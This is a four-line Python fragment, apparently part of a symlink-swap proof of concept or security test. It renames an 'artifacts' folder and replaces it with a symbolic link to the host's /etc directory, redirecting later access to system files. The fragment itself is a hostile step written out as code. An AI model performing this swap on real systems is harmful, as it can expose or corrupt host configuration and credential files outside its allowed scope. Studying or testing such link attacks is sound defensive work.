# Replaces the folder of artifacts by a link to a folder of the host.
os.rename("artifacts", "old")
os.symlink("/etc", "artifacts")
print("held: replaced")
